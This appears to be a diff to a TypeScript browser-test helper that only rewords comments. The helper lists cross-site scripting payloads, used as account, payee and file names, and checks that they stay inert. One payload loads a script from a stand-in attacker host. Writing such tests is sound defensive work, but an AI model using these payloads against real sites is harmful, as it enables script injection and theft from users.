@@ -2,13 +2,13 @@ import { expect } from 'vitest';
 import type { Window } from '../real-browser.ts';
 import type { Document } from './dom.ts';
 
-/** Tags and attributes that came of an injected text, in HTML whose attributes are all in double quotes. */
+/** Tags and attributes that an injected text created, in HTML whose attributes use double quotes. */
 export const injectedMarkup = (html: string): readonly string[] =>
   html.replaceAll(/="[^"]*"/g, '=""').match(/<[^>]*\b(data-injected|on[a-z]+=)[^>]*>/g) ?? [];
 
 declare const document: Document;
 
-/** Names that somebody might give to an account, a payee or a file so that a page runs or shows what he wants. */
+/** Names for accounts, payees or files that try to run code in a page or to change it. */
 export const INJECTIONS = {
   script: '<script data-injected>window.__injected=1</script>',
   scriptOfOthers: '<script src="https://attacker.example/x.js" data-injected></script>',
@@ -36,7 +36,7 @@ export const INJECTIONS = {
   emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 🇵🇱 e\u0301 ﷽ 漢字',
 } as const;
 
-/** Those that a field of one line can hold. */
+/** Those that fit in a single-line field. */
 export const INJECTED_NAMES: readonly string[] = Object.entries(INJECTIONS)
   .filter(([name]) => name !== 'headers')
   .map(([, text]) => text);
@@ -66,7 +66,7 @@ const readInjected = (): Found => {
 
 const oneLine = (text: string): string => text.replaceAll(/\s+/g, ' ').trim();
 
-/** What an injected text did, which no policy of the browser would tell; and each text `shown` that is not there as text. */
+/** The effects of injected texts that no browser policy reports, and each of `shown` that is missing as text. */
 export const injectionProblems = async (
   { page, troubles }: Window,
   shown: readonly string[] = [],
@@ -81,7 +81,7 @@ export const injectionProblems = async (
   ];
 };
 
-/** Nothing of what was injected ran or became an element; all that is `shown` is there as text. */
+/** Asserts that no injected text ran or became an element, and that all of `shown` appears as text. */
 export const expectInert = async (window: Window, shown: readonly string[] = []): Promise<void> => {
   expect(await injectionProblems(window, shown), `injected texts at ${window.address}`).toEqual([]);
 };
